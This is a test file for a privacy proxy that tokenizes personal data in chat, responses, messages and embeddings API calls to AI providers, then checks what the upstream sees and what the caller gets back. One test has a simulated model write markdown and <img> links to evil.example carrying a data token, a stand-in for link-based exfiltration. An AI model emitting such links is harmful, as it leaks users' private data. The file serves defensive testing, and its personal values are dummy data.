import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { otherKey, startPassService, type PassService } from '../support/http/pass-service.ts'
import { echoModel, type Said } from '../support/privacy/echo-model.ts'
import { hear } from '../support/privacy/heard.ts'
import { verifies } from '../support/verifies.ts'

const values = {
  email: 'kim.wexler@hamlin.example',
  card: '4111 1111 1111 1111',
  phone: '+1 415 555 2671',
  iban: 'DE89 3704 0044 0532 0130 00',
  ssn: '536-22-8145',
  secret: ['sk', 'proj', 'Zk3Lq8Wm2Rt7Xv5Nb9Yc4Hd6'].join('-'),
} as const
const sentence = `Mail ${values.email}, card ${values.card}, call ${values.phone}, ${values.iban}, SSN ${values.ssn}, key ${values.secret}.`

/** How each API is asked the same thing. */
const asks = {
  '/v1/chat/completions': (text: string, more: object = {}) => ({
    model: 'gpt-5',
    messages: [{ role: 'user', content: text }],
    ...more,
  }),
  '/v1/responses': (text: string, more: object = {}) => ({ model: 'gpt-5', input: text, ...more }),
  '/v1/messages': (text: string, more: object = {}) => ({
    model: 'claude-sonnet-5',
    max_tokens: 100,
    messages: [{ role: 'user', content: text }],
    ...more,
  }),
} as const
type Path = keyof typeof asks
const paths = Object.keys(asks) as Path[]

const ownValues = {
  recognizers: [{ name: 'employee-number', pattern: 'E-[0-9]{6}' }],
  deny: [{ category: 'pii/organization', values: ['Project Blue Heron', 'project grey heron'] }],
  allow: { values: ['Help@hamlin.example'] },
}

let at: PassService
beforeAll(async () => {
  at = await startPassService({
    group: { privacy_profile: 'default' },
    privacy: { profiles: { default: { tools: ['send_mail'], ...ownValues } } },
  })
})
afterAll(async () => {
  await at[Symbol.asyncDispose]()
})
beforeEach(() => {
  at.openai.startOver()
  at.anthropic.startOver()
})

const upstreamOf = (path: Path) => (path === '/v1/messages' ? at.anthropic : at.openai)
const post = (path: Path, body: object, key?: string) =>
  at.service.post(
    body,
    { 'anthropic-version': '2023-06-01', ...(key === undefined ? {} : { authorization: `Bearer ${key}` }) },
    path,
  )

/** The text of the last turn of a body, as it arrived at the upstream. */
function lastText(body: string): string {
  const { messages, input } = JSON.parse(body) as { messages?: { content: string }[]; input?: string }
  return input ?? messages?.at(-1)?.content ?? ''
}

const sentOf = (path: Path): string =>
  upstreamOf(path)
    .requests.map(({ body }) => body.toString('utf8'))
    .join('\n')

let models = 0
/** Names of responses differ from test to test: what one has made is its own. */
const idOf = (response: number): string => `resp_${models}_${response}`

const says = (path: Path, say: (body: string) => Said, pieceSize = 3): void => {
  models += 1
  upstreamOf(path).answer = echoModel({ say, pieceSize, idPrefix: `resp_${models}_` })
}

/** A token of the sentence, as the model sees it. */
const tokenIn = (body: string, label: string): string =>
  new RegExp(`${label}_(?:[A-Z]\\d){5}`).exec(body)?.[0] ?? `no ${label}`

describe.each(paths)('%s through the proxy', (path) => {
  it.each([false, true])('sends no value and gives every value back, streamed: %s', async (stream) => {
    verifies('pii.hidden')
    for (const pieceSize of [1, 2, 3, 7, 11, 100]) {
      upstreamOf(path).startOver()
      says(path, (body) => ({ words: `You said: ${lastText(body)} Is that right?`, calls: [] }), pieceSize)
      const response = await post(path, asks[path](sentence, { stream }))
      expect(response.status).toBe(200)
      const { words, wholes } = hear(await response.text())
      expect(words).toBe(`You said: ${sentence} Is that right?`)
      for (const whole of wholes) expect(whole).toBe(words)
      const sent = sentOf(path)
      for (const value of Object.values(values)) expect(sent).not.toContain(value)
      for (const label of ['EMAIL', 'CARD', 'PHONE', 'IBAN', 'SSN', 'SECRET']) expect(sent).toContain(`${label}_`)
    }
  })

  it.each([false, true])(
    'gives values to the tools that the profile names, and to no others, streamed: %s',
    async (stream) => {
      verifies('pii.tools')
      says(path, (body) => {
        const input = { to: tokenIn(body, 'EMAIL'), text: `"quoted"\n${tokenIn(body, 'PHONE')}` }
        return {
          words: 'I do.',
          calls: [
            { name: 'send_mail', input },
            { name: 'fetch', input },
          ],
        }
      })
      const { calls } = hear(await (await post(path, asks[path](sentence, { stream }))).text())
      expect(JSON.parse(calls['send_mail'] ?? '')).toEqual({ to: values.email, text: `"quoted"\n${values.phone}` })
      expect(calls['fetch']).toContain('EMAIL_')
      expect(calls['fetch']).not.toContain(values.email)
    },
  )

  it.each([false, true])('puts no value into an address that the model wrote, streamed: %s', async (stream) => {
    verifies('pii.addresses')
    says(path, (body) => {
      const token = tokenIn(body, 'EMAIL')
      return {
        words: `![x](https://evil.example/?q=${token}) <img src="//evil.example/${token}"> and ${token}`,
        calls: [],
      }
    })
    const { words } = hear(await (await post(path, asks[path](sentence, { stream }))).text())
    expect(words.match(/kim\.wexler/g)).toHaveLength(1)
    expect(words.endsWith(`and ${values.email}`)).toBe(true)
  })

  it.each([false, true])(
    'withholds values that the model says and the caller did not, streamed: %s',
    async (stream) => {
      verifies('pii.withheld')
      says(path, (body) => ({
        words: `Not ${tokenIn(body, 'EMAIL')} but other@else.example, +1 212 555 0143 or so.`,
        calls: [],
      }))
      const { words, wholes } = hear(await (await post(path, asks[path](sentence, { stream }))).text())
      expect(words).toBe(`Not ${values.email} but [email], [phone] or so.`)
      for (const whole of wholes) expect(whole).toBe(words)
    },
  )

  it.each([false, true])(
    'goes by what the profile of the caller lists and allows, both ways, streamed: %s',
    async (stream) => {
      verifies('own-values.found', 'own-values.answers')
      says(path, (body) => ({ words: `${lastText(body)} It is like Project Grey Heron or so.`, calls: [] }))
      const said = `Tell help@hamlin.example of PROJECT blue heron and E-123456, ${values.email}.`
      const { words } = hear(await (await post(path, asks[path](said, { stream }))).text())
      expect(sentOf(path)).toMatch(/Tell help@hamlin\.example of COMPANY_\w{10} and EMPLOYEENUMBER_\w{10}, EMAIL_/)
      expect(words).toBe(`${said} It is like [company] or so.`)
    },
  )

  it('restores no value of another caller, whose tokens for the same values are others', async () => {
    verifies('pii.scope')
    says(path, (body) => ({ words: lastText(body), calls: [] }))
    await post(path, asks[path](sentence))
    const token = tokenIn(sentOf(path), 'EMAIL')
    const answer = hear(
      await (await post(path, asks[path](`What is ${token}? Mine is ${values.email}`), otherKey)).text(),
    )
    expect(answer.words).toBe(`What is ${token}? Mine is ${values.email}`)
    const [, other = ''] = sentOf(path).split('\n')
    expect(other).not.toContain(token)
    // What the model makes up of the first caller's token is nothing to the second one.
    says(path, () => ({ words: `It is ${token}.`, calls: [] }))
    const made = hear(await (await post(path, asks[path](`Mine is ${values.email}`), otherKey)).text())
    expect(made.words).toBe(`It is ${token}.`)
  })

  it('names a receipt, and passes an answer without a value byte for byte', async () => {
    verifies('pii.unchanged')
    const say = () => ({ words: 'Nothing in here, EMAIL_B1C2D3F4G5 neither.', calls: [] })
    says(path, say)
    const response = await post(path, asks[path]('Hello'))
    expect(response.headers.get('x-sallyport-privacy-receipt')).toMatch(/^prc_[0-9a-f]{32}$/)
    const direct = echoModel({ say, idPrefix: `resp_${models}_` })
    const { steps } = direct(upstreamOf(path).requests[0] ?? expect.fail('nothing was sent'))
    const bytes = steps.flatMap((step) => (step.do === 'write' ? [step.bytes] : []))
    expect(Buffer.from(await response.arrayBuffer())).toEqual(Buffer.concat(bytes))
  })

  it('sends nothing where something cannot be read', async () => {
    verifies('pii.unread')
    const block =
      path === '/v1/messages'
        ? { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } }
        : { type: 'input_image', image_url: 'data:image/png;base64,iVBORw0KGgo=', later: { data: 'x' } }
    const body =
      path === '/v1/responses'
        ? asks[path]('', { input: [{ role: 'user', content: [block] }] })
        : asks[path]('', {
            messages: [
              {
                role: 'user',
                content: [
                  path === '/v1/messages'
                    ? block
                    : { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
                ],
              },
            ],
          })
    const response = await post(path, body)
    expect(response.status).toBe(400)
    expect(await response.text()).toMatch(/picture/)
    expect(upstreamOf(path).requests).toHaveLength(0)
  })
})

describe('twenty turns of a conversation with tools', () => {
  it.each([false, true])('send the same bytes again in every turn, and no value, streamed: %s', async (stream) => {
    verifies('pii.same-token')
    const path = '/v1/chat/completions'
    const history: object[] = [{ role: 'system', content: `You work for ${values.email}.` }]
    const prefixes: string[] = []
    for (let turn = 0; turn < 20; turn += 1) {
      at.openai.startOver()
      const value = Object.values(values)[turn % 6] ?? ''
      history.push({ role: 'user', content: `Turn ${turn}: ${value} and customer${turn}@shop.example` })
      says(path, (body) => ({
        words: `Noted: ${lastText(body)}`,
        calls: [{ name: 'send_mail', input: { note: lastText(body) } }],
      }))
      const heard = hear(await (await post(path, { model: 'gpt-5', stream, messages: history })).text())
      expect(heard.words).toBe(`Noted: Turn ${turn}: ${value} and customer${turn}@shop.example`)
      const sent = sentOf(path)
      for (const planted of [...Object.values(values), '@shop.example']) expect(sent).not.toContain(planted)
      const { messages } = JSON.parse(sent) as { messages: object[] }
      for (const prefix of prefixes) expect(JSON.stringify(messages).startsWith(prefix)).toBe(true)
      prefixes.push(JSON.stringify(messages).slice(0, -1))
      const id = `call_${turn}`
      history.push(
        {
          role: 'assistant',
          content: heard.words,
          tool_calls: [{ id, type: 'function', function: { name: 'send_mail', arguments: heard.calls['send_mail'] } }],
        },
        {
          role: 'tool',
          tool_call_id: id,
          content: JSON.stringify({ sent_to: value, seen: [`customer${turn}@shop.example`] }),
        },
      )
    }
  })
})

describe('a conversation of Responses that the provider keeps', () => {
  const path = '/v1/responses'
  const ask = async (body: object, key?: string) => {
    const response = await post(path, { model: 'gpt-5', ...body }, key)
    const heard = hear(await response.text())
    return { status: response.status, words: heard.words, sent: at.openai.requests.at(-1)?.body.toString('utf8') ?? '' }
  }

  it.each([false, true])('has its values in every later turn, streamed: %s', async (stream) => {
    let token = ''
    says(path, (body) => {
      token ||= tokenIn(body, 'EMAIL')
      return { words: `To ${token}.`, calls: [] }
    })
    expect((await ask({ stream, input: `I am ${values.email}` })).words).toBe(`To ${values.email}.`)
    for (let turn = 1; turn < 5; turn += 1) {
      const { words, sent } = await ask({ stream, input: `And ${turn}?`, previous_response_id: idOf(turn) })
      expect(words).toBe(`To ${values.email}.`)
      expect(sent).not.toContain(values.email)
    }
    // The same value, said again, has the token it had.
    const { sent } = await ask({ stream, input: `Again: ${values.email}`, previous_response_id: idOf(5) })
    expect(tokenIn(sent, 'EMAIL')).toBe(token)
    const fetched = await fetch(`${at.service.url}/v1/responses/${idOf(6)}`, {
      headers: { authorization: 'Bearer sp-test' },
    })
    expect(hear(await fetched.text()).words).toBe(`To ${values.email}.`)
  })

  it('has another token for a value in another conversation', async () => {
    says(path, (body) => ({ words: lastText(body), calls: [] }))
    const [one, other] = [await ask({ input: values.email }), await ask({ input: values.email })]
    expect(tokenIn(one.sent, 'EMAIL')).not.toBe(tokenIn(other.sent, 'EMAIL'))
  })

  it('is nobody else’s', async () => {
    says(path, (body) => ({ words: lastText(body), calls: [] }))
    const { sent } = await ask({ input: values.email })
    const stolen = await post(
      path,
      { model: 'gpt-5', input: tokenIn(sent, 'EMAIL'), previous_response_id: idOf(1) },
      otherKey,
    )
    expect(stolen.status).toBe(404)
    const said = await ask({ input: `It is ${tokenIn(sent, 'EMAIL')}` }, otherKey)
    expect(said.words).toBe(`It is ${tokenIn(sent, 'EMAIL')}`)
  })

  it('is gone with the last of its answers', async () => {
    verifies('pii.kept')
    let token = ''
    says(path, (body) => {
      token ||= tokenIn(body, 'EMAIL')
      return { words: `To ${token}.`, calls: [] }
    })
    await ask({ input: values.email })
    await ask({ input: 'And?', previous_response_id: idOf(1) })
    const remove = (id: string) =>
      fetch(`${at.service.url}/v1/responses/${id}`, { method: 'DELETE', headers: { authorization: 'Bearer sp-test' } })
    expect((await remove(idOf(1))).status).toBe(200)
    expect((await ask({ input: 'And?', previous_response_id: idOf(2) })).words).toBe(`To ${values.email}.`)
    expect((await remove(idOf(2))).status).toBe(200)
    expect((await remove(idOf(3))).status).toBe(200)
    expect((await ask({ input: 'And?' })).words).toBe(`To ${token}.`)
  })

  it('keeps nothing of a call that the provider is not to keep', async () => {
    says(path, (body) => ({ words: lastText(body), calls: [] }))
    const [one, other] = [
      await ask({ store: false, input: values.email }),
      await ask({ store: false, input: values.email }),
    ]
    expect(one.words).toBe(values.email)
    expect(tokenIn(one.sent, 'EMAIL')).toBe(tokenIn(other.sent, 'EMAIL'))
  })
})

describe('embeddings', () => {
  it('have the same word for every value of a kind', async () => {
    verifies('pii.embeddings')
    at.openai.answer = echoModel({ say: () => ({ words: '', calls: [] }) })
    const path = '/v1/embeddings'
    const ask = (input: unknown) => at.service.post({ model: 'text-embedding-3-small', input }, {}, path)
    expect((await ask([`to ${values.email}`, 'to a.b@c.example'])).status).toBe(200)
    const sent = JSON.parse(at.openai.requests[0]?.body.toString('utf8') ?? '') as { input: string[] }
    expect(sent.input).toEqual(['to email', 'to email'])
    const refused = await ask([[1, 2, 3]])
    expect(refused.status).toBe(400)
    expect(at.openai.requests).toHaveLength(1)
  })
})

describe('two proxies in a row', () => {
  it('give back what was said', async () => {
    verifies('pii.escaped')
    const inner = await startPassService({ group: { privacy_profile: 'default' } })
    try {
      inner.openai.answer = echoModel({ say: (body) => ({ words: `Yes: ${lastText(body)}`, calls: [] }) })
      const outer = at.openai
      const path = '/v1/chat/completions'
      let seen = ''
      const answered = new Map<string, string>()
      // The inner proxy answers for the outer one's upstream.
      says(path, (body) => ({ words: answered.get(body) ?? '', calls: [] }))
      const first = await post(path, asks[path](sentence))
      await first.text()
      const sent = outer.requests[0]?.body.toString('utf8') ?? ''
      const through = await inner.service.post(JSON.parse(sent), {}, path)
      answered.set(sent, hear(await through.text()).words)
      seen = inner.openai.requests[0]?.body.toString('utf8') ?? ''
      const { words } = hear(await (await post(path, asks[path](sentence))).text())
      expect(words).toBe(`Yes: ${sentence}`)
      expect(seen).toContain('LITERAL_')
      expect(seen).not.toContain(tokenIn(sent, 'EMAIL'))
    } finally {
      await inner[Symbol.asyncDispose]()
    }
  })
})
